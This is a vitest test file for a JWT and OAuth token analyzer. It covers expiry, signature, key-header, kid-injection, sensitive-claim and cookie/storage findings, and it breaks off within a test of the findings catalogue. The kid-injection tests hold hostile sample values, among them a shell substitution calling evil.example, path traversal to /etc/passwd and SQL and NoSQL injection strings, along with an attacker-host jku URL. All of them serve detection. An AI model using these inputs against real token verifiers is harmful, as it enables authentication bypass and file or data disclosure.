import { describe, it, expect } from 'vitest';
import fc from 'fast-check';
import * as jose from 'jose';
// The thresholds below are README "Thresholds" written out (300 s, 24 h, 90 days, 60 s), never read from
// the constants: a changed constant fails here, and test/meta/documented-numbers.test.ts ties both to the text.
import { analyze, guessTokenRole, isLocalHost, looksLikeCardNumber } from '../../src/core/analyze';
import { FINDING_CATALOGUE, FINDING_IDS, finding, sortFindings } from '../../src/core/findings';
import { decodeToken } from '../../src/core/decode';
import {
  WHERES,
  type AnalysisContext,
  type DecodedToken,
  type Finding,
  type FindingId,
  type JsonObject,
  type Sighting,
} from '../../src/core/types';

const NOW = 1_700_000_000;
const SECRET = new TextEncoder().encode('a-string-secret-at-least-256-bits-long');
const HOUR = 3600;
const DAY = 86400;

/** A fresh HS256 token whose claims are exactly `payload`, decoded as the panel would. */
async function signed(payload: JsonObject, header: JsonObject = {}): Promise<DecodedToken> {
  const raw = await new jose.SignJWT(payload).setProtectedHeader({ alg: 'HS256', ...header }).sign(SECRET);
  return decodeToken(raw);
}

/** A token that raises nothing on its own: one hour of life, issued a minute ago. */
function healthy(extra: JsonObject = {}): JsonObject {
  return { sub: 'user-1', iat: NOW - 60, exp: NOW + HOUR, ...extra };
}

function b64url(value: unknown): string {
  return jose.base64url.encode(typeof value === 'string' ? value : JSON.stringify(value));
}

function handMade(header: JsonObject, payload: JsonObject, signature = ''): DecodedToken {
  return decodeToken(`${b64url(header)}.${b64url(payload)}.${signature}`);
}

function run(token: DecodedToken, context: AnalysisContext = {}): Finding[] {
  return analyze(token, { now: NOW, ...context });
}

function ids(findings: Finding[]): FindingId[] {
  return findings.map((f) => f.id);
}

function detailOf(findings: Finding[], id: FindingId): string {
  const found = findings.find((f) => f.id === id);
  if (!found) throw new Error(`no ${id} finding in ${ids(findings).join(', ')}`);
  return found.detail;
}

describe('analyze: a healthy token', () => {
  it('has no findings', async () => {
    expect(run(await signed(healthy()))).toEqual([]);
  });

  it('has none when seen only in safe places', async () => {
    const sightings: Sighting[] = [
      { where: 'authorization-header', name: 'Authorization', url: 'https://api.example.com/me' },
      {
        where: 'set-cookie',
        name: '__Host-session',
        url: 'https://app.example.com/login',
        cookie: { httpOnly: true, secure: true, sameSite: 'lax' },
      },
      { where: 'cookie', name: '__Host-session', url: 'https://app.example.com/api' },
      { where: 'response-body', name: 'access_token', url: 'https://idp.example.com/token' },
    ];
    expect(run(await signed(healthy()), { sightings })).toEqual([]);
  });

  it('returns nothing for a token that did not decode', () => {
    expect(analyze(decodeToken('not a token'), { now: NOW })).toEqual([]);
  });
});

describe('analyze: expiry', () => {
  it('reports expired one second after exp, with a readable time', async () => {
    const findings = run(await signed(healthy({ iat: NOW - HOUR, exp: NOW - 2 * HOUR + 1 })));
    expect(ids(findings)).toContain('expired');
    expect(detailOf(findings, 'expired')).toContain('Expired 1 h 59 min ago, at ');
    expect(detailOf(findings, 'expired')).toContain('(2023-11-14T20:13:21.000Z)');
  });

  it('counts exactly exp as expired (RFC 7519: now must be before exp)', async () => {
    expect(ids(run(await signed(healthy({ exp: NOW }))))).toContain('expired');
  });

  it('mentions the skew when it expired moments ago', async () => {
    const findings = run(await signed(healthy({ exp: NOW - 10 })));
    expect(detailOf(findings, 'expired')).toContain('Servers allowing 1 min of clock skew may still accept it.');
    const older = run(await signed(healthy({ exp: NOW - 61 })));
    expect(detailOf(older, 'expired')).not.toContain('may still accept it');
  });

  it('reports expires-soon up to and including 300 s, and not beyond', async () => {
    const at = run(await signed(healthy({ exp: NOW + 300 })));
    expect(ids(at)).toEqual(['expires-soon']);
    expect(detailOf(at, 'expires-soon')).toContain('Expires in 5 min');
    expect(ids(run(await signed(healthy({ exp: NOW + 1 }))))).toEqual(['expires-soon']);
    expect(ids(run(await signed(healthy({ exp: NOW + 301 }))))).toEqual([]);
  });

  it('reports no-expiry when exp is missing or not a NumericDate', async () => {
    const { exp: _exp, ...noExp } = healthy();
    expect(ids(run(await signed(noExp)))).toEqual(['no-expiry']);
    const bogus = run(await signed(healthy({ exp: 'tomorrow' })));
    expect(ids(bogus)).toEqual(['no-expiry']);
    expect(detailOf(bogus, 'no-expiry')).toContain('"tomorrow"');
    expect(ids(run(await signed(healthy({ exp: { at: 1 } }))))).toEqual(['no-expiry']);
  });

  it('reads a numeric-string exp but notes that strict libraries reject it', async () => {
    const findings = run(await signed(healthy({ exp: String(NOW - 5) })));
    expect(ids(findings)).toEqual(['expired']);
    expect(detailOf(findings, 'expired')).toContain('is a string');
  });

  it('does not ask DPoP proofs or Security Event Tokens for an exp they never carry', () => {
    const proof = { htm: 'POST', htu: 'https://as.example/token', iat: NOW, jti: 'e1j3V_bKic8-LAEB' };
    expect(ids(run(handMade({ alg: 'ES256', typ: 'dpop+jwt' }, proof, 'c2ln')))).toEqual([]);
    expect(ids(run(handMade({ alg: 'ES256', typ: 'secevent+jwt' }, { iat: NOW, jti: 'x', events: {} }, 'c2ln')))).toEqual([]);
    expect(ids(run(handMade({ alg: 'ES256', typ: 'JWT' }, { iat: NOW, jti: 'x' }, 'c2ln')))).toEqual(['no-expiry']);
  });
});

describe('analyze: lifetime', () => {
  it('allows exactly 24 h from iat to exp and reports a second more', async () => {
    expect(ids(run(await signed({ iat: NOW, exp: NOW + 86_400 })))).toEqual([]);
    const long = run(await signed({ iat: NOW, exp: NOW + 86_401 }));
    expect(ids(long)).toEqual(['long-lifetime']);
    expect(detailOf(long, 'long-lifetime')).toContain('1 day 1 s');
  });

  it('measures from now to exp when there is no iat', async () => {
    const findings = run(await signed({ sub: 'x', exp: NOW + 2 * DAY }));
    expect(ids(findings)).toEqual(['long-lifetime']);
    expect(detailOf(findings, 'long-lifetime')).toContain('no iat');
    expect(ids(run(await signed({ sub: 'x', exp: NOW + 23 * HOUR })))).toEqual([]);
  });

  it('judges the issued lifetime even when most of it has passed', async () => {
    expect(ids(run(await signed({ iat: NOW - 30 * DAY, exp: NOW + HOUR })))).toEqual(['long-lifetime']);
  });

  it('gives refresh tokens up to 90 days', async () => {
    const thirtyDays = { iat: NOW, exp: NOW + 30 * DAY };
    // Keycloak marks refresh tokens with typ "Refresh"; simplejwt with token_type "refresh".
    expect(ids(run(await signed({ ...thirtyDays, typ: 'Refresh' })))).toEqual([]);
    expect(ids(run(await signed({ ...thirtyDays, token_type: 'refresh' })))).toEqual([]);
    // Seen under a refresh name, an otherwise anonymous token gets the allowance too.
    const sightings: Sighting[] = [{ where: 'response-body', name: 'refresh_token', url: 'https://idp.example/token' }];
    expect(ids(run(await signed(thirtyDays), { sightings }))).toEqual([]);
    expect(ids(run(await signed(thirtyDays)))).toEqual(['long-lifetime']);

    expect(ids(run(await signed({ iat: NOW, exp: NOW + 90 * DAY, typ: 'Refresh' })))).toEqual([]);
    const tooLong = run(await signed({ iat: NOW, exp: NOW + 91 * DAY, typ: 'Refresh' }));
    expect(ids(tooLong)).toEqual(['long-lifetime']);
    expect(detailOf(tooLong, 'long-lifetime')).toContain('a refresh token');
    expect(detailOf(tooLong, 'long-lifetime')).toContain('90 days');
  });

  it('does not give the refresh allowance to access tokens', async () => {
    const findings = run(await signed({ iat: NOW, exp: NOW + 30 * DAY, scope: 'read' }, { typ: 'at+jwt' }));
    expect(ids(findings)).toEqual(['long-lifetime']);
    expect(detailOf(findings, 'long-lifetime')).toContain('an access token');
  });
});

describe('analyze: nbf and iat against the clock', () => {
  it('reports not-yet-valid only beyond the skew', async () => {
    expect(ids(run(await signed(healthy({ nbf: NOW + 60 }))))).toEqual([]);
    const future = run(await signed(healthy({ nbf: NOW + 61 })));
    expect(ids(future)).toEqual(['not-yet-valid']);
    expect(detailOf(future, 'not-yet-valid')).toContain('1 min 1 s from now');
    expect(ids(run(await signed(healthy({ nbf: NOW - 10 }))))).toEqual([]);
  });

  it('reports issued-in-future only beyond the skew', async () => {
    expect(ids(run(await signed({ iat: NOW + 60, exp: NOW + HOUR })))).toEqual([]);
    const future = run(await signed({ iat: NOW + 2 * HOUR, exp: NOW + 3 * HOUR }));
    expect(ids(future)).toEqual(['issued-in-future']);
    expect(detailOf(future, 'issued-in-future')).toContain('2 h ahead');
  });

  it('honours a custom skew, zero included', async () => {
    const token = await signed(healthy({ nbf: NOW + 1, iat: NOW + 1 }));
    expect(ids(run(token, { skewSeconds: 0 }))).toEqual(['not-yet-valid', 'issued-in-future']);
    expect(ids(run(token))).toEqual([]);
    // Nonsense skews fall back to the default rather than disabling the checks.
    expect(ids(run(await signed(healthy({ nbf: NOW + 120 })), { skewSeconds: -5 }))).toEqual(['not-yet-valid']);
    expect(ids(run(await signed(healthy({ nbf: NOW + 120 })), { skewSeconds: Number.NaN }))).toEqual(['not-yet-valid']);
  });
});

describe('analyze: algorithm and signature', () => {
  it('reports alg none for an unsecured JWT', () => {
    const raw = new jose.UnsecuredJWT(healthy()).encode();
    const findings = run(decodeToken(raw));
    expect(ids(findings)).toEqual(['alg-none']);
    expect(findings[0]?.severity).toBe('critical');
  });

  it('catches other spellings of none and a leftover signature', () => {
    for (const alg of ['None', 'NONE', 'nOnE']) {
      const findings = run(handMade({ alg }, healthy(), 'c2lnbmF0dXJl'));
      expect(ids(findings), alg).toEqual(['alg-none']);
      expect(detailOf(findings, 'alg-none')).toContain('spelling');
      expect(detailOf(findings, 'alg-none')).toContain('signature part');
    }
  });

  it('reports empty-signature for a signing alg without signature, and not for none', async () => {
    const good = await new jose.SignJWT(healthy()).setProtectedHeader({ alg: 'HS256' }).sign(SECRET);
    const stripped = good.slice(0, good.lastIndexOf('.') + 1);
    const findings = run(decodeToken(stripped));
    expect(ids(findings)).toEqual(['empty-signature']);
    expect(detailOf(findings, 'empty-signature')).toContain('"HS256"');
    expect(ids(run(decodeToken(good)))).toEqual([]);
    expect(ids(run(handMade({ alg: 'none' }, healthy())))).toEqual(['alg-none']);
  });
});

describe('analyze: key headers', () => {
  it('reports jku and x5u, naming the URL and flagging plain HTTP', async () => {
    const findings = run(await signed(healthy(), { jku: 'http://attacker.example/jwks.json', x5u: 'https://idp.example/cert.pem' }));
    expect(ids(findings)).toEqual(['remote-key-header']);
    const detail = detailOf(findings, 'remote-key-header');
    expect(detail).toContain('jku = "http://attacker.example/jwks.json" (plain HTTP)');
    expect(detail).toContain('x5u = "https://idp.example/cert.pem"');
    expect(findings[0]?.severity).toBe('high');
  });

  it('reports an embedded jwk, and says when it holds the private part', async () => {
    const { publicKey, privateKey } = await jose.generateKeyPair('ES256', { extractable: true });
    const jwk = await jose.exportJWK(publicKey);
    const raw = await new jose.SignJWT(healthy()).setProtectedHeader({ alg: 'ES256', jwk }).sign(privateKey);
    const findings = run(decodeToken(raw));
    expect(ids(findings)).toEqual(['embedded-key-header']);
    expect(detailOf(findings, 'embedded-key-header')).toContain('embedded EC key');
    const privateJwk = await jose.exportJWK(privateKey);
    const leaky = run(handMade({ alg: 'ES256', jwk: privateJwk }, healthy(), 'c2ln'));
    expect(detailOf(leaky, 'embedded-key-header')).toContain('private');
  });

  it('reports x5c with its certificate count', async () => {
    const findings = run(await signed(healthy(), { x5c: ['MIIB', 'MIIC'] }));
    expect(ids(findings)).toEqual(['embedded-key-header']);
    expect(detailOf(findings, 'embedded-key-header')).toContain('2 certificates');
  });

  it('leaves kid, x5t and typ alone', async () => {
    expect(ids(run(await signed(healthy(), { kid: 'key-2024-01', x5t: 'abc', typ: 'JWT' })))).toEqual([]);
  });
});

describe('analyze: kid injection', () => {
  it.each([
    ['../../../../dev/null', 'path traversal'],
    ['/etc/passwd', 'path separator'],
    ['keys\\prod', 'path separator'],
    ["x' UNION SELECT 'secret", 'quote'],
    ["1' OR '1'='1", 'quote'],
    ['1 or 1=1', 'SQL keywords'],
    ['k1; DROP TABLE keys', 'statement separator'],
    ['k1 -- comment', 'SQL comment'],
    ['k1|cat /etc/passwd', 'shell'],
    ['$(curl evil.example)', 'shell'],
    ['`id`', 'quote'],
    ['key\u0000.pem', 'control characters'],
    ['key%00', 'control characters'],
    ['http://attacker.example/key', 'URL scheme'],
    ['file:///etc/passwd', 'URL scheme'],
    ['k'.repeat(300), 'characters, far longer'],
  ])('flags %j (%s)', async (kid, reason) => {
    const findings = run(await signed(healthy(), { kid }));
    expect(ids(findings)).toEqual(['kid-injection']);
    expect(detailOf(findings, 'kid-injection')).toContain(reason);
  });

  it.each([
    'key-1',
    '2024-01-15',
    'a1b2c3d4e5f6',
    'e7f8d2a1-6c3b-4f3e-9a8d-1b2c3d4e5f60',
    'kid_AbC.def=',
    'Mr5-AUibfBii7Nd1jBebaxboXW0',
    'https://myvault.vault.azure.net/keys/signing/0a1b2c3d',
    'k'.repeat(256),
  ])('accepts the ordinary kid %j', async (kid) => {
    expect(ids(run(await signed(healthy(), { kid })))).toEqual([]);
  });

  it('flags an object kid (NoSQL operator injection) but not a number', () => {
    const findings = run(handMade({ alg: 'HS256', kid: { $ne: null } }, healthy(), 'c2ln'));
    expect(ids(findings)).toEqual(['kid-injection']);
    expect(detailOf(findings, 'kid-injection')).toContain('an object');
    expect(ids(run(handMade({ alg: 'HS256', kid: 7 }, healthy(), 'c2ln')))).toEqual([]);
  });

  it('shows a long kid shortened', async () => {
    const findings = run(await signed(healthy(), { kid: `../${'a'.repeat(5000)}` }));
    expect(detailOf(findings, 'kid-injection').length).toBeLessThan(1500);
  });
});

describe('analyze: sensitive data', () => {
  it('flags secrets by claim name without echoing them', async () => {
    const findings = run(
      await signed(healthy({ password: 'hunter2', user: { api_key: 'sk_live_51H', profile: { client_secret: 'abc' } } })),
    );
    expect(ids(findings)).toEqual(['sensitive-data']);
    const detail = detailOf(findings, 'sensitive-data');
    expect(detail).toContain('password');
    expect(detail).toContain('user.api_key');
    expect(detail).toContain('user.profile.client_secret');
    expect(detail).not.toContain('hunter2');
    expect(detail).not.toContain('sk_live');
    expect(detail).toContain('Readable by anyone who sees the token');
  });

  it.each([
    [{ Password: 'x' }],
    [{ user_passwd: 'x' }],
    [{ 'Private-Key': 'x' }],
    [{ pin: 1234 }],
    [{ ssn: '078-05-1120' }],
    [{ cvv: '123' }],
    [{ secretAnswer: 'Fluffy' }],
  ])('flags %j', async (claims) => {
    expect(ids(run(await signed(healthy(claims))))).toEqual(['sensitive-data']);
  });

  it.each([
    [{ password_changed_at: NOW }],
    [{ has_password: true }],
    [{ password: '' }],
    [{ password: null }],
    [{ passwordPolicy: 'strong' }],
    [{ secret_expires_at: NOW }],
    [{ email: 'jane@example.com', name: 'Jane', phone_number: '+1 555 0100' }],
    [{ sub: '4111111111111111', jti: '4111111111111111' }],
    [{ compass: 'north', passport_country: 'FR', spinach: true }],
  ])('leaves %j alone', async (claims) => {
    expect(ids(run(await signed(healthy(claims))))).toEqual([]);
  });

  it('flags card numbers that pass the Luhn check, in any claim not known to be an identifier', async () => {
    const findings = run(await signed(healthy({ billing: { card: '4111 1111 1111 1111' }, ref: 5555555555554444 })));
    const detail = detailOf(findings, 'sensitive-data');
    expect(detail).toContain('billing.card');
    expect(detail).toContain('ref');
    expect(detail).toContain('Luhn');
    expect(detail).not.toContain('4111');
    expect(ids(run(await signed(healthy({ ref: '4111111111111112' }))))).toEqual([]);
  });

  it('checks card numbers by issuer prefix, length and Luhn', () => {
    expect(looksLikeCardNumber('4111111111111111')).toBe(true);
    expect(looksLikeCardNumber('378282246310005')).toBe(true);
    expect(looksLikeCardNumber('6011-1111-1111-1117')).toBe(true);
    expect(looksLikeCardNumber('4111111111111112')).toBe(false);
    expect(looksLikeCardNumber('1234567812345670')).toBe(false);
    expect(looksLikeCardNumber('4444444444444444')).toBe(false);
    expect(looksLikeCardNumber('411111111111')).toBe(false);
    expect(looksLikeCardNumber('41111111111111111111')).toBe(false);
  });

  it('flags US SSNs, PEM private keys and private JWKs in values', async () => {
    const findings = run(
      await signed(
        healthy({
          taxRef: '078-05-1120',
          blob: '-----BEGIN PRIVATE KEY-----\nMIIE...\n-----END PRIVATE KEY-----',
          cnf: { jwk: { kty: 'EC', crv: 'P-256', x: 'a', y: 'b', d: 'c' } },
          shared: { kty: 'oct', k: 'c2VjcmV0' },
        }),
      ),
    );
    const detail = detailOf(findings, 'sensitive-data');
    expect(detail).toContain('taxRef (its value looks like a US Social Security number)');
    expect(detail).toContain('blob (its value is a PEM private key)');
    expect(detail).toContain('cnf.jwk is a private key in JWK form');
    expect(detail).toContain('shared is a symmetric secret key');
    expect(ids(run(await signed(healthy({ taxRef: '000-12-3456' }))))).toEqual([]);
    expect(ids(run(await signed(healthy({ cnf: { jwk: { kty: 'EC', crv: 'P-256', x: 'a', y: 'b' } } }))))).toEqual([]);
  });

  it('names at most five places and counts the rest', async () => {
    const many = Object.fromEntries(Array.from({ length: 9 }, (_, i) => [`secret${i}`, 'x']));
    const detail = detailOf(run(await signed(healthy(many))), 'sensitive-data');
    expect(detail).toContain('secret4');
    expect(detail).not.toContain('secret5');
    expect(detail).toContain('and 4 more');
  });

  it('walks arrays and odd keys, within bounds', async () => {
    const detail = detailOf(run(await signed(healthy({ users: [{ ok: 1 }, { 'the password': 'x' }] }))), 'sensitive-data');
    expect(detail).toContain('users[1]["the password"]');
    let deep: JsonObject = { password: 'x' };
    for (let i = 0; i < 100; i++) deep = { n: deep };
    expect(ids(run(handMade({ alg: 'HS256' }, healthy({ deep }), 'c2ln')))).toEqual([]);
  });

  it('does not judge a payload that is not JSON claims', () => {
    expect(ids(run(decodeToken(`${b64url({ alg: 'HS256' })}.${b64url('password=hunter2')}.c2ln`)))).toEqual([]);
  });
});

describe('analyze: JWE', () => {
  const key = new Uint8Array(32).fill(7);

  async function jwe(header: JsonObject, claims: JsonObject): Promise<DecodedToken> {
    const raw = await new jose.CompactEncrypt(new TextEncoder().encode(JSON.stringify(claims)))
      .setProtectedHeader({ alg: 'dir', enc: 'A256GCM', ...header })
      .encrypt(key);
    return decodeToken(raw);
  }

  it('judges only the header: the claims are encrypted', async () => {
    const token = await jwe({}, { password: 'x', iat: NOW - 90 * DAY });
    expect(token.ok && token.kind).toBe('jwe');
    expect(ids(run(token))).toEqual([]);
  });

  it('still reports header findings and sightings', async () => {
    const token = await jwe({ jku: 'https://evil.example/jwks', kid: '../../key' }, { sub: 'x' });
    const sightings: Sighting[] = [{ where: 'local-storage', name: 'enc', url: 'https://app.example/' }];
    expect(ids(run(token, { sightings }))).toEqual(['remote-key-header', 'kid-injection', 'web-storage']);
  });
});

describe('analyze: where the token was seen', () => {
  let token: DecodedToken;
  const get = async () => (token ??= await signed(healthy()));

  it('reports a Set-Cookie without HttpOnly, naming the cookie and URL', async () => {
    const findings = run(await get(), {
      sightings: [
        {
          where: 'set-cookie',
          name: 'jwt',
          url: 'https://app.example/login?next=/',
          cookie: { httpOnly: false, secure: true, sameSite: 'lax' },
        },
      ],
    });
    expect(ids(findings)).toEqual(['cookie-not-httponly']);
    const detail = detailOf(findings, 'cookie-not-httponly');
    expect(detail).toContain('cookie "jwt" on https://app.example/login');
    expect(detail).not.toContain('next=');
  });

  it('takes a token read through document-cookie as proof that HttpOnly is off', async () => {
    const findings = run(await get(), { sightings: [{ where: 'document-cookie', name: 'jwt', url: 'https://app.example/' }] });
    expect(ids(findings)).toEqual(['cookie-not-httponly']);
  });

  it('does not guess cookie attributes it was not told', async () => {
    expect(ids(run(await get(), { sightings: [{ where: 'cookie', name: 'jwt', url: 'https://app.example/' }] }))).toEqual([]);
    expect(
      ids(
        run(await get(), {
          sightings: [{ where: 'set-cookie', name: 'jwt', url: 'https://app.example/', cookie: { httpOnly: true, secure: true } }],
        }),
      ),
    ).toEqual([]);
  });

  it('reports a cookie without Secure, except on localhost', async () => {
    const cookie = { httpOnly: true, secure: false };
    expect(ids(run(await get(), { sightings: [{ where: 'set-cookie', name: 'jwt', url: 'https://app.example/', cookie }] }))).toEqual([
      'cookie-not-secure',
    ]);
    expect(ids(run(await get(), { sightings: [{ where: 'set-cookie', name: 'jwt', cookie }] }))).toEqual(['cookie-not-secure']);
    for (const url of [
      'http://localhost:3000/',
      'http://127.0.0.1:8080/api',
      'http://[::1]/',
      'http://app.localhost/',
      'http://127.1.2.3/',
    ]) {
      expect(ids(run(await get(), { sightings: [{ where: 'set-cookie', name: 'jwt', url, cookie }] })), url).toEqual([]);
    }
  });

  it('reports SameSite=None cookies', async () => {
    const findings = run(await get(), {
      sightings: [
        { where: 'set-cookie', name: 'jwt', url: 'https://app.example/', cookie: { httpOnly: true, secure: true, sameSite: 'none' } },
      ],
    });
    expect(ids(findings)).toEqual(['cookie-samesite-none']);
    expect(
      ids(
        run(await get(), {
          sightings: [{ where: 'set-cookie', name: 'jwt', cookie: { httpOnly: true, secure: true, sameSite: 'strict' } }],
        }),
      ),
    ).toEqual([]);
  });

  it('reports local and session storage', async () => {
    const findings = run(await get(), {
      sightings: [
        { where: 'local-storage', name: 'auth', url: 'https://app.example/dashboard' },
        { where: 'session-storage', name: 'id_token', url: 'https://app.example/dashboard' },
      ],
    });
    expect(ids(findings)).toEqual(['web-storage']);
    const detail = detailOf(findings, 'web-storage');
    expect(detail).toContain('localStorage["auth"] of https://app.example');
    expect(detail).toContain('sessionStorage["id_token"]');
  });

  it('reports a token in a URL without repeating the query', async () => {
    const findings = run(await get(), {
      sightings: [{ where: 'url', name: 'access_token', url: 'https://app.example/callback?access_token=eyJ.x.y&state=1' }],
    });
    expect(ids(findings)).toEqual(['token-in-url']);
    expect(detailOf(findings, 'token-in-url')).toContain('parameter "access_token" of https://app.example/callback');
    expect(detailOf(findings, 'token-in-url')).not.toContain('state=');
  });

  it('reports cleartext HTTP and WebSocket, except for loopback hosts', async () => {
    const at = async (url: string, where: Sighting['where'] = 'authorization-header') =>
      ids(run(await get(), { sightings: [{ where, name: 'Authorization', url }] }));
    expect(await at('http://api.example.com/me')).toEqual(['cleartext-http']);
    expect(await at('ws://api.example.com/socket')).toEqual(['cleartext-http']);
    expect(await at('HTTP://API.EXAMPLE.COM/')).toEqual(['cleartext-http']);
    expect(await at('https://api.example.com/me')).toEqual([]);
    expect(await at('wss://api.example.com/socket')).toEqual([]);
    for (const url of ['http://localhost/', 'http://LOCALHOST:5173/', 'http://127.0.0.1/', 'http://[::1]:8080/', 'http://dev.localhost/']) {
      expect(await at(url), url).toEqual([]);
    }
    expect(await at('http://localhost.evil.example/')).toEqual(['cleartext-http']);
    expect(await at('http://127.0.0.1.nip.io/')).toEqual(['cleartext-http']);
  });

  it('copes with a URL that does not parse', async () => {
    expect(
      await (async () => ids(run(await get(), { sightings: [{ where: 'url', name: 't', url: 'http://exa mple.com/?t=1' }] })))(),
    ).toEqual(['cleartext-http', 'token-in-url']);
  });

  it('gives one finding per id, naming every piece of evidence once', async () => {
    const cookie = { httpOnly: false, secure: true, sameSite: 'lax' as const };
    const findings = run(await get(), {
      sightings: [
        { where: 'set-cookie', name: 'jwt', url: 'https://a.example/login', cookie },
        { where: 'set-cookie', name: 'jwt', url: 'https://a.example/login', cookie },
        { where: 'set-cookie', name: 'jwt2', url: 'https://b.example/refresh', cookie },
        { where: 'document-cookie', name: 'jwt', url: 'https://a.example/' },
      ],
    });
    expect(ids(findings)).toEqual(['cookie-not-httponly']);
    const detail = detailOf(findings, 'cookie-not-httponly');
    expect(detail.match(/cookie "jwt" on https:\/\/a\.example\/login/g)).toHaveLength(1);
    expect(detail).toContain('"jwt2" on https://b.example/refresh');
    expect(detail).toContain('read from document.cookie');
  });

  it('bounds evidence from many sightings', async () => {
    const sightings: Sighting[] = Array.from({ length: 5000 }, (_, i) => ({ where: 'url', name: 't', url: `https://a.example/p${i}` }));
    const findings = run(await get(), { sightings });
    expect(ids(findings)).toEqual(['token-in-url']);
    expect(detailOf(findings, 'token-in-url')).toContain('and 995 more');
  });
});

describe('analyze: output', () => {
  it('sorts by severity, most severe first, one finding per id', async () => {
    const token = handMade({ alg: 'none', jku: 'https://x.example/' }, { iat: NOW - 2 * DAY, password: 'x' });
    const findings = run(token, {
      sightings: [
        { where: 'local-storage', name: 'tok', url: 'http://app.example/' },
        { where: 'url', name: 'tok', url: 'http://app.example/?tok=1' },
      ],
    });
    expect(ids(findings)).toEqual([
      'alg-none',
      'remote-key-header',
      'sensitive-data',
      'cleartext-http',
      'no-expiry',
      'web-storage',
      'token-in-url',
    ]);
    const ranks = findings.map((f) => ['critical', 'high', 'medium', 'low', 'info'].indexOf(f.severity));
    expect(ranks).toEqual([...ranks].sort((a, b) => a - b));
    expect(new Set(ids(findings)).size).toBe(findings.length);
  });

  it('fills every finding from the catalogue', async () => {
    const findings = run(await signed(healthy({ exp: NOW - 1 })));
    expect(findings).toHaveLength(1);
    const [expired] = findings;
    expect(expired).toMatchObject({ id: 'expired', severity: 'low', title: FINDING_CATALOGUE.expired.title });
    expect(expired?.reference).toContain('RFC 7519 §4.1.4');
    expect(expired?.detail).toContain(FINDING_CATALOGUE.expired.why);
    expect(expired?.detail).toContain(FINDING_CATALOGUE.expired.fix);
  });

  it('never emits the ids that need a key, the network or the refresh flow', async () => {
    const token = handMade({ alg: 'HS256', jwk: {}, jku: 'x', kid: '../' }, { password: 'x', iat: NOW + DAY }, '');
    const all: readonly Sighting['where'][] = WHERES;
    const sightings = all.map((where) => ({
      where,
      name: 'n',
      url: 'http://x.example/',
      cookie: { httpOnly: false, secure: false, sameSite: 'none' as const },
    }));
    const emitted = new Set(ids(run(token, { sightings })));
    for (const id of [
      'weak-hmac-secret',
      'signature-invalid',
      'refresh-while-access-valid',
      'refresh-token-not-rotated',
      'refresh-token-reused',
    ] as const) {
      expect(emitted.has(id), id).toBe(false);
    }
  });

  it('uses the current time when none is given', async () => {
    const now = Math.floor(Date.now() / 1000);
    expect(ids(analyze(await signed({ iat: now, exp: now + HOUR })))).toEqual([]);
    expect(ids(analyze(await signed({ iat: now - 2 * HOUR, exp: now - HOUR })))).toEqual(['expired']);
  });
});

describe('guessTokenRole', () => {
  it.each<[JsonObject, JsonObject, string[] | undefined, string]>([
    [{ token_use: 'access' }, {}, undefined, 'access'],
    [{ token_use: 'id' }, {}, undefined, 'id'],
    [{ typ: 'Bearer' }, {}, undefined, 'access'],
    [{ typ: 'Refresh' }, {}, undefined, 'refresh'],
    [{ typ: 'Offline' }, {}, undefined, 'refresh'],
    [{ typ: 'ID', nonce: 'n' }, {}, undefined, 'id'],
    [{ token_type: 'refresh' }, {}, undefined, 'refresh'],
    [{ token_type: 'access' }, {}, undefined, 'access'],
    [{ sub: 'x' }, { typ: 'at+jwt' }, undefined, 'access'],
    [{ sub: 'x' }, { typ: 'application/at+jwt' }, undefined, 'access'],
    [{ nonce: 'abc' }, { typ: 'JWT' }, undefined, 'id'],
    [{ at_hash: 'abc' }, {}, undefined, 'id'],
    [{ sub: 'x' }, {}, ['refresh_token'], 'refresh'],
    [{ sub: 'x' }, {}, ['X-Refresh-Token'], 'refresh'],
    [{ sub: 'x' }, {}, ['id_token'], 'id'],
    [{ sub: 'x' }, {}, ['idToken'], 'id'],
    [{ sub: 'x' }, {}, ['access_token'], 'access'],
    [{ scope: 'openid profile' }, {}, undefined, 'access'],
    [{ scp: ['read'] }, {}, undefined, 'access'],
    [{ sub: 'x' }, { typ: 'JWT' }, undefined, 'access'],
    [{ sub: 'x' }, {}, undefined, 'unknown'],
    [{ sub: 'x' }, {}, ['session', 'Authorization'], 'unknown'],
    // An explicit statement wins over a sighting name.
    [{ token_use: 'access' }, {}, ['refresh_token'], 'access'],
  ])('%j with header %j seen as %j is %s', (payload, header, names, role) => {
    expect(guessTokenRole(handMade({ alg: 'HS256', ...header }, payload, 'c2ln'), names)).toBe(role);
  });

  it('is unknown for failures and odd input', () => {
    expect(guessTokenRole(decodeToken(''))).toBe('unknown');
    expect(guessTokenRole(null as unknown as DecodedToken)).toBe('unknown');
    expect(guessTokenRole(handMade({ alg: 'HS256' }, { sub: 'x' }, 'c2ln'), [1, null] as unknown as string[])).toBe('unknown');
  });
});

describe('isLocalHost', () => {
  it.each([
    ['localhost', true],
    ['LOCALHOST', true],
    ['localhost.', true],
    ['app.localhost', true],
    ['127.0.0.1', true],
    ['127.255.0.9', true],
    ['[::1]', true],
    ['example.com', false],
    ['localhost.example.com', false],
    ['128.0.0.1', false],
    ['10.0.0.1', false],
    ['[::2]', false],
  ])('%s → %s', (host, local) => {
    expect(isLocalHost(host)).toBe(local);
  });
});

describe('findings catalogue', () => {
  const ALL_IDS: FindingId[] = [
    'expired',
    'expires-soon',
    'no-expiry',
    'long-lifetime',
    'not-yet-valid',
    'issued-in-future',
    'alg-none',
    'empty-signature',
    'weak-hmac-secret',
    'remote-key-header',
    'embedded-key-header',
    'kid-injection',
    'sensitive-data',
    'signature-invalid',
    'cookie-not-httponly',
    'cookie-not-secure',
    'cookie-samesite-none',
    'web-storage',
    'token-in-url',
    'cleartext-http',
    'refresh-while-access-valid',
    'refresh-token-not-rotated',
    'refresh-token-reused',
    'jwks-symmetric-key',
    // The OAuth 2.0 / OpenID Connect flow ids (ARCHITECTURE.md contracts).
    'oauth-no-state',
    'oauth-state-mismatch',
    'oauth-no-pkce',
    'oauth-pkce-plain',
    'oauth-implicit-flow',
    'oauth-client-secret-in-browser',
    'oauth-token-response-cacheable',
    'oauth-code-reused',
    'oauth-redirect-uri-http',
    'oidc-nonce-missing',
    'oidc-nonce-mismatch',
    'oidc-at-hash-mismatch',
    'oidc-c-hash-mismatch',
    'oidc-aud-mismatch',
    'oidc-azp-mismatch',
    'oidc-iss-mismatch',
    'id-token-as-bearer',
  ];

  it('has an entry for each of the 41 ids, with every field filled', () => {
    expect(Object.keys(FINDING_CATALOGUE).sort()).toEqual([...ALL_IDS].sort());
    expect([...FINDING_IDS].sort()).toEqual([...ALL_IDS].sort());
    for (const id of ALL_IDS) {
      const entry = FINDING_CATALOGUE[id];
      expect(entry.id).toBe(id);
